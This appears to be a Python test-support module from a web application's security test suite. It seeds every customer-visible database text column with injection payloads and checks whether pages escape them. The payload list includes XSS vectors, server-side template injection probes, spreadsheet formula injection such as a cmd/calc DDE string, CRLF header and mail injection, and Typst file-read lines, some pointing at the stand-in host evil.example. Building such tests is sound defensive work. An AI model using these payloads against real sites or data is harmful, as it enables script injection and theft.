"""Texts that would like to be markup, script, formula, header or template, and the fields into which they are put."""

from __future__ import annotations

import html
import itertools
from collections.abc import Callable, Sequence
from typing import Any
from urllib.parse import quote

from sqlalchemy import JSON, String

from mypage.db.schema import metadata

MARK = "xqz"
"""Stands in every text; as a function of the page it would tell that a script ran."""
CHUNK = 32
"""Texts that one load of all pages shows, each in a row of its own."""

_TAGS = (
    "<script>xqz(1)</script>", "<ScRiPt>xqz(1)</sCrIpT>", "<script/x>xqz(1)</script>", "<script\n>xqz(1)</script\n>",
    "<script src=//evil.example/xqz.js></script>", "<script src='data:text/javascript,xqz(1)'></script>",
    "<script type=module>xqz(1)</script>", "<scr<script>ipt>xqz(1)</scr</script>ipt>", "<<script>xqz(1)//<</script>",
    "</script><script>xqz(1)</script>", "</title><script>xqz(1)</script>", "</style><script>xqz(1)</script>",
    "</textarea></select><script>xqz(1)</script>", "<noscript><p title='</noscript><img src=x onerror=xqz(1)>'>",
    "<xqz onxqz=1>", "<img src=x onerror=xqz(1)>", "<img src=x:x onerror='xqz(1)'//", "<img/src=x/onerror=xqz(1)>",
    '<img src="x" onerror="xqz(1)">', "<image href=x onerror=xqz(1)>", "<video><source onerror=xqz(1)></video>",
    "<video src=x onerror=xqz(1)>", "<audio src onerror=xqz(1)>", "<body onload=xqz(1)>", "<iframe src=javascript:xqz(1)>",
    "<iframe srcdoc='<script>parent.xqz(1)</script>'>", "<object data=javascript:xqz(1)>", "<embed src=javascript:xqz(1)>",
    "<details open ontoggle=xqz(1)>", "<input autofocus onfocus=xqz(1)>", "<select autofocus onfocus=xqz(1)>",
    "<textarea autofocus onfocus=xqz(1)>", "<button autofocus onfocus=xqz(1)>", "<marquee onstart=xqz(1)>xqz</marquee>",
    "<a href=javascript:xqz(1)>xqz</a>", "<a href='java&#x09;script:xqz(1)'>xqz</a>", "<math><a xlink:href=javascript:xqz(1)>",
    "<base href=//evil.example/xqz>", "<meta http-equiv=refresh content=0;url=//evil.example/xqz>",
    "<link rel=stylesheet href=//evil.example/xqz.css>", "<link rel=prefetch href=//evil.example/xqz>",
    "<form action=//evil.example/xqz><button>xqz</button></form>", "<button formaction=javascript:xqz(1)>xqz</button>",
    "<isindex action=javascript:xqz(1)>", "<dialog open>xqz</dialog>", "<template><xqz></template>", "<slot name=xqz>",
    "<!--xqz--><![CDATA[<xqz>]]>", "<!--><script>xqz(1)</script>-->", "<?xqz <script>xqz(1)</script>?>", "<!DOCTYPE xqz>",
    "&lt;script&gt;xqz&#x3c;xqz&#60;/script>", "&#60;img src=x onerror=xqz(1)&#62;", "＜script＞xqz＜/script＞",
    "<plaintext>xqz", "<xmp>xqz", "<h1>xqz</h1>", "</p></div></main><xqz>", "<portal src=//evil.example/xqz>",
)  # fmt: skip
_SVG = (
    '"><svg/onload=xqz(1)>', "<svg><script>xqz(1)</script></svg>", "<svg><script href=data:,xqz(1) />",
    "<svg><a><animate attributeName=href values=javascript:xqz(1) /><text>xqz</text></a></svg>",
    "<svg><set attributeName=onmouseover to=xqz(1)>", "<svg><use href='data:image/svg+xml,<svg id=x onload=xqz(1)>#x'>",
    "<svg><foreignObject><iframe src=javascript:xqz(1)>", "<svg><style>@import '//evil.example/xqz.css'</style>",
    "<svg><image href=//evil.example/xqz.png>", "<math><mtext><table><mglyph><style><img src=x onerror=xqz(1)>",
)  # fmt: skip
_EVENTS = (
    "onmouseover=xqz(1)",
    "autofocus onfocus=xqz(1)",
    "onerror=xqz(1) src=x",
    "style=animation-name:x onanimationstart=xqz(1)",
)
_ATTRIBUTES = (
    *(f"{q} {event} x={q}" for q, event in itertools.product(('"', "'", "`", ">"), _EVENTS)),
    'xqz" accesskey=x onclick=xqz(1) "', "xqz' autofocus='", "\"xqz='", "xqz onmouseover=xqz(1)", "xqz\tonclick=xqz(1)",
    'https://a.example/"onclick=xqz(1)//', "http://a.example/'><xqz>", "https://a.example/?q=<xqz>", '\\"><xqz>',
)  # fmt: skip
_SCHEMES = (
    "javascript:xqz(1)", "JaVaScRiPt:xqz(1)//https://x.example", " javascript:xqz(1)", "java\tscript:xqz(1)",
    "java\nscript:xqz(1)", "\x01javascript:xqz(1)", "javascript&colon;xqz(1)", "javascript:%78qz(1)//xqz", "vbscript:xqz(1)",
    "data:text/html,<script>xqz(1)</script>", "data:text/html;base64,PHNjcmlwdD54cXooMSk8L3NjcmlwdD4=xqz", "data:image/svg+xml,<svg onload=xqz(1)>",
    "//evil.example/xqz", "\\\\evil.example\\xqz", "https:evil.example/xqz", "https://user:xqz@evil.example/", "https://evil.example\\@good.example/xqz",
    "blob:https://evil.example/xqz", "file:///etc/xqz", "view-source:xqz", "https://xqz。example/", "https://[xqz", "http://xqz:99999/",
)  # fmt: skip
_SCRIPTS = (
    "';xqz(1)//", '";xqz(1)//', "`;xqz(1)//", "\\';xqz(1)//", "'-xqz(1)-'", '"-xqz(1)-"', "${xqz(1)}", "*/xqz(1)/*", "');xqz(1);('",
    '"]};xqz(1);//', "</script><svg onload=xqz(1)>", "\\u003cscript\\u003exqz(1)\\u003c/script\\u003e", "\u2028xqz(1)", "\u2029xqz(1)//",
    "constructor.constructor('xqz(1)')()",
)  # fmt: skip
_STYLES = (
    "</style><img src=x onerror=xqz(1)>", "red;background:url(//evil.example/xqz)", "x:expression(xqz(1))", "}*{background:url(//evil.example/xqz)}",
    "@import '//evil.example/xqz.css';", "url(javascript:xqz(1))", "\\75rl(//evil.example/xqz)", "<style>*{display:none}</style>xqz",
    '" style="position:fixed;inset:0;background:url(//evil.example/xqz)', "<p style=background:url(//evil.example/xqz)>",
)  # fmt: skip
_TEMPLATES = (
    "xq{{7*7}}qx", "xqz{{ config }}", "xq{% if 1 %}49{% endif %}qx xqz", "{% raw %}xqz", "{% include 'base.html' %}xqz", "{#xqz#}xqz",
    "xqz{{ ''.__class__.__mro__[1].__subclasses__() }}", "xq${7*7}qx xqz", "xq#{7*7}qx xqz", "xq<%= 7*7 %>qx xqz", "xq@(7*7)qx xqz", "xq[[7*7]]qx xqz",
    "%(company)s %s %d %n xqz", "%(portal)s xqz", "{0} {company} {} xqz", "xqz{{constructor.constructor('xqz(1)')()}}", "<xqz v-html=xqz(1)>", "<div x-data x-init=xqz(1)>",
    "$xqz $$ ${xqz}", "`id`$(id)xqz",
)  # fmt: skip
_HTMX = (
    "hx-on:click=xqz <div hx-get=/xqz hx-trigger=load>", "<div hx-get=//evil.example/xqz hx-trigger=load>", "<div data-hx-get=/xqz data-hx-trigger=load>",
    '" data-hx-get="/xqz" data-hx-trigger="load', "' hx-on::load='xqz(1)", "<div hx-on::load=xqz(1)>", "<div hx-vals='js:{a:xqz(1)}' hx-get=/xqz hx-trigger=load>",
    "<div hx-boost=true><a href=//evil.example/xqz>", "<div hx-ext=xqz>", "<div data-hx-headers='js:{a:xqz(1)}'>", "<div hx-swap-oob=true id=main>xqz</div>",
    '{"HX-Redirect":"//evil.example/xqz"}',
)  # fmt: skip
FORMULAS = (
    "=cmd|' /C calc'!A0xqz", "+1+1xqz", "-2+3xqz", "@SUM(1)xqz", "\t=1xqz", "\r=1xqz", "\n=1xqz", "＝1xqz", "＋1xqz", "－1xqz", "＠SUM(1)xqz",
    '=HYPERLINK("//evil.example")xqz', " =1+1xqz", '"=1+1xqz', "'=1+1xqz", ",=1+1xqz", ";=1+1xqz", '";"=1xqz', '=IMPORTXML("//evil.example/xqz")', "%0A=1xqz",
    "\u200b=1xqz", "\ufeff=1xqz",
)  # fmt: skip
LINES = (
    "xqz\r\nSet-Cookie: evil=1", "xqz\nBcc: x@evil.example\n\n<xqz>", "xqz\r\n\r\nHTTP/1.1 200 OK", "xqz\rX-Evil: 1", "xqz\u0085X-Evil: 1", "xqz\u2028X-Evil: 1",
    "xqz%0d%0aX-Evil: 1", "xqz\x0b\x0cX-Evil: 1", "=?utf-8?q?xqz=0d=0aBcc:_x?=", "xqz\r\n.\r\nMAIL FROM:<x@evil.example>", "xqz\r\n--boundary\r\nContent-Type: text/html",
    'xqz"}\n{"event": "forged", "level": "info"}', "xqz\n2026-11-21 INFO forged line", "xqz\x1b[31mred\x1b[0m", "xqz\x1b]0;title\x07", "xqz\x08\x08\x08",
)  # fmt: skip
_SIGNS = (
    "\u202exqz\u2066<xqz>", "xqz\u202d\u202e\u202c", "\u2067xqz\u2069", "x\u200bq\u200bz<x\u200bqz> xqz", "xqz\ufeff<xqz>", "xqz\u00ad\u200d\u2060", "xqz\u0300\u0301\u0302\u0303" * 3,
    "\ufff9xqz\ufffa<xqz>\ufffb", "\U000e0001\U000e0078xqz", "xqz\u3164\uffa0", "ｘｑｚ＜ｘｑｚ＞ xqz", "ﬁxqz①㍿", "xqz\ud7ff\ue000\ufffd", "xqz\U0001f468\u200d\U0001f469\u200d\U0001f467",
    "\u0131\u017f\u212a xqz <\u017fcript>xqz(1)</\u017fcript>",
)  # fmt: skip
_TYPST = (
    '#read("/etc/passwd")xqz', '#import "@preview/xqz:1.0.0"', '#eval("1+1")xqz', '#include "/etc/xqz"', '#image("/etc/xqz")', "$ x^2 xqz $", "*xqz* _xqz_ `xqz`", "= xqz",
    '#link("//evil.example")[xqz]', "#set page(width: 1pt) xqz", '] #panic("xqz") [', "\\#xqz\\*", "#sys.version xqz", "//xqz", "/* xqz", "@xqz <xqz>", "```xqz", "~--- xqz ... '\"",
    "%PDF-1.7 xqz endstream endobj", "(xqz) Tj ET /JS (xqz)",
)  # fmt: skip

PAYLOADS: tuple[str, ...] = tuple(
    dict.fromkeys(
        (*_TAGS, *_SVG, *_ATTRIBUTES, *_SCHEMES, *_SCRIPTS, *_STYLES, *_TEMPLATES, *_HTMX, *FORMULAS, *LINES, *_SIGNS, *_TYPST)
    )
) + tuple(html.escape(p) for p in _TAGS[:3]) + tuple(quote(p) for p in _TAGS[:3])  # fmt: skip

TEXTS = {
    "customer": ("name", "kana", "number", "email", "phone", "postal_code", "address"),
    "account": ("email",),
    "contract": ("name", "number", "place"),
    "service": ("name", "category"),
    "invoice": ("number", "payment_method", "addressee", "issuer", "note"),
    "invoice_line": ("description", "period_text"),
    "notice": ("title", "body", "title_en", "body_en"),
    "payment_method": ("last4",),
    "login_session": ("device",),
    "credential": ("login_id",),
    "registration": ("login_id", "email"),
    "second_factor": ("name",),
    "mail_link": ("address",),
}
"""Every text of a person, of an operator's system or of a browser, by table."""
HOUSEHOLD = {
    "account": ("family_name", "given_name", "family_kana", "given_kana", "user_name"),
    "resource": ("value",),
    "product_order": ("number", "product", "subject", "placed_login"),
}
"""The texts of a household that hands out accounts and buys online, which only such an operator's pages show."""
CONSOLE = {
    "paper_application": ("note", "outcome"),
    "line_secret": ("label",),
}
"""The texts that pages of the staff console show, and which tests of those pages fill (`tests/staff/*_injection.py`)."""
PLACES = {
    "slot": ("local", "host"),
    "slot_application": ("number", "local_before", "host_before", "local", "host", "reason"),
}
"""The texts of numbered places, which pages of those and of staff show and `tests/slots/test_slot_injection.py` fills."""
ENDINGS = {"termination": ("number", "email", "placed_login", "answers", "ends")}
"""The texts of an end that was asked for, which `tests/terminations/test_ending_injection.py` fills."""
REQUESTS = {"request": ("number", "title"), "request_event": ("body",), "request_file": ("name",)}
"""The texts of forms that were filed, which `tests/requests/test_request_injection.py` fills, with all kinds of content."""
OF_STAFF: dict[str, tuple[str, ...]] = {
    "staff_member": ("name", "email"),
    "work_item": ("reference", "title"),
    "work_note": ("body",),
    "approval": ("summary", "reason", "decision_note"),
    "paper_application": ("note",),
    "staff_view": ("staff_name", "reason"),
    "line_secret": ("label",),
    "audit_entry": ("request_id", "object_id"),
    "payment_review": ("card_name",),
    "product_order": ("number", "subject", "placed_login"),
    "subscription": ("product",),
    "provisioning_job": ("subject", "problem"),
    "resource": ("value",),
    "posting": ("description",),
}
"""Texts that only staff see or write, by table; those that customers see, too, are in `injection_kit`."""
PROFILE = "customer.profile"
"""The answers to an operator's own questions, one text to each."""
DETAILS = ("contract.details labels", "contract.details values")
NO_TEXTS = frozenset(
    [
        "tenant_id",
        "kind",
        "status",
        "state",
        "scheme",
        "language",
        "role",
        "number_key",
        "kana_key",
        "login_key",
        "password_hash",
        "former_hash",
        "purpose",
        "wizard",
        "operation_id",
        "currency",
        "tax_mode",
        "gateway",
        "brand",
        "reference",
        "url",
        "reason",
        "key",
        "importance",
        "template",
        "message_id",
        "recipient",
        "last_error",
        "key_id",
        "actor_kind",
        "actor",
        "as_whom",
        "action",
        "object_type",
        "object_id",
        "request_id",
        "card_setup.last4",
        "invoice.registration_number",
        "draft.data",
        "operation.result",
        "audit_entry.before",
        "audit_entry.after",
        "value_key",
        "product_order.cause",
        *("find_name", "find_rest", "find_kana", "find_kana_rest", "find_phone", "find_mail", "find_given"),
        "find_given_kana",
        "staff_view.ending",
        "work_item.closed_by",
        "work_item.outcome",
        "work_note.author",
        "desk_role.worked",
        "desk_role.granted_by",
        "desk_seat.worked",
        "staff_identity.issuer",
        "staff_identity.subject",
        "daily_figure.name",
        "approval.payload",
        "termination.fee",
        # Codes of the operator and days; the note to a step has a test of its own in plugins/usen.
        "service.progress",
        "notice.audience",
        "provisioning_job.concerns",
        "provisioning_job.work",
        "provisioning_job.details",
        "slot.code",
        "request.form",
        "request.section",
        "request.content",
        "request_event.step",
        "request_event.author",
        "request_file.field",
        "request_file.media_type",
        "slot_name.local_key",
        "slot_name.host",
        "slot_application.code",
        "slot_application.filed_scheme",
        "slot_application.filed_role",
    ]
)
"""Columns that hold our own words, keys for looking up, or what no page, file or mail shows; seals and hashes are bytes.

Why an order was placed is one of the words of a CHECK.
"""
UNSEEN = {
    "contract": ("plan",),
    "notice": ("permission",),
    "product_order": ("placed_scheme", "placed_role"),
    "consent_text": ("product", "version", "body"),
    "provisioning_job": ("product", "subject", "adapter", "problem"),
    "payment_review": ("card_name", "decided_by"),
    "posting": ("description",),
    "invoice_line": ("charge",),
    "counter": ("name",),
}
"""Columns that no browser sees, which a test proves on the pages of a household.

Codes are compared and looked up: a plan, a permission, the product of a purchase, a scheme, a role, the kind of a charge,
a counter's name (an order's product is shown when nobody sells it any more, so it stands above). A consent keeps the
operator's wording as evidence; a page shows the plugin's. A job goes to another system as JSON. The name on a card and who
decided about it are for the staff's command line. A posting is copied into a line of a bill, which stands above.
"""


def columns_without_cover() -> list[str]:
    """Columns of texts that nobody put into a list above."""
    return [
        f"{table.name}.{column.name}"
        for table in metadata().tables.values()
        if "tenant_id" in table.columns
        for column in table.columns
        if isinstance(column.type, String | JSON)
        and column.computed is None
        and column.name
        not in (
            *(
                name
                for listed in (TEXTS, HOUSEHOLD, CONSOLE, PLACES, ENDINGS, REQUESTS, OF_STAFF, UNSEEN)
                for name in listed.get(table.name, ())
            ),
            *NO_TEXTS,
        )
        and f"{table.name}.{column.name}" not in (*NO_TEXTS, "contract.details", PROFILE)
    ]


def fields() -> int:
    """How many fields a text is put into."""
    return sum(map(len, TEXTS.values())) + len(DETAILS)


def chunks() -> list[tuple[str, ...]]:
    """All texts in portions of one length, of which each load shows one."""
    return [(PAYLOADS + PAYLOADS)[start : start + CHUNK] for start in range(0, len(PAYLOADS), CHUNK)]


def infect(change: Callable[..., Any], tenant: str, texts: Sequence[str]) -> None:
    """Row by row another text; where there are more texts than rows, the last row has all the others."""
    for table, columns in TEXTS.items():
        for column in columns:
            change(_INFECT.format(table=table, column=column), list(texts), tenant, tenant)
    change(_DETAILS, list(texts), tenant, tenant)


def infect_household(change: Callable[..., Any], tenant: str, texts: Sequence[str]) -> None:
    """The same for what a household has besides; each answer of a profile has a text of its own."""
    for table, column in household_columns():
        change(_INFECT.format(table=table, column=column), list(texts), tenant, tenant)
    change(_PROFILE, list(texts), tenant)


def mark(change: Callable[..., Any], tenant: str, columns: Sequence[tuple[str, str]]) -> list[str]:
    """Each column says its own name in each row; what is written, the columns of which no row was touched left out."""
    marks = []
    for table, column in columns:
        names = [f"{MARK}-{table}-{column}-{n}" for n in range(CHUNK)]
        if change(_INFECT.format(table=table, column=column), names, tenant, tenant):
            marks.append(f"{MARK}-{table}-{column}")
    return marks


def mark_household(change: Callable[..., Any], tenant: str) -> list[str]:
    """The same for all that a household's pages show."""
    change(_PROFILE, [f"{MARK}-customer-profile"], tenant)
    return [*mark(change, tenant, household_columns()), f"{MARK}-customer-profile"]


def household_columns() -> list[tuple[str, str]]:
    """Table and column of each text of a household but the profile."""
    return [(table, column) for table, columns in HOUSEHOLD.items() for column in columns]


def unseen_columns() -> list[tuple[str, str]]:
    """Table and column of what no browser sees."""
    return [(table, column) for table, columns in UNSEEN.items() for column in columns]


_ROWS = """
FROM (SELECT ctid AS place, row_number() OVER (ORDER BY ctid) AS n, count(*) OVER () AS rows
      FROM "{table}" WHERE tenant_id = %s) r
CROSS JOIN t WHERE x.tenant_id = %s AND x.ctid = r.place"""
_PICK = "CASE WHEN r.n < r.rows THEN texts[1 + (r.n - 1) %% cardinality(texts)] ELSE array_to_string(texts[1 + (r.n - 1) %% cardinality(texts):], ' ') END"
_INFECT = 'WITH t AS (SELECT %s::text[] AS texts) UPDATE "{table}" x SET "{column}" = ' + _PICK + _ROWS
_DETAILS = (
    "WITH t AS (SELECT %s::text[] AS texts) UPDATE contract x SET details = jsonb_build_array(jsonb_build_array("
    f"({_PICK})::text, ({_PICK})::text))" + _ROWS.format(table="contract")
)

_PROFILE = """
WITH t AS (SELECT %s::text[] AS texts) UPDATE customer x SET profile = (
    SELECT coalesce(jsonb_object_agg(k, texts[1 + ((n - 1) %% cardinality(texts))::int]), '{}')
    FROM jsonb_object_keys(x.profile) WITH ORDINALITY AS asked(k, n))
FROM t WHERE x.tenant_id = %s"""


def harmless(text: str) -> str:
    """Letters in the same words, which no sink minds."""
    return "".join(char if char == " " else "あ" if ord(char) > 0x7F else "a" for char in text)
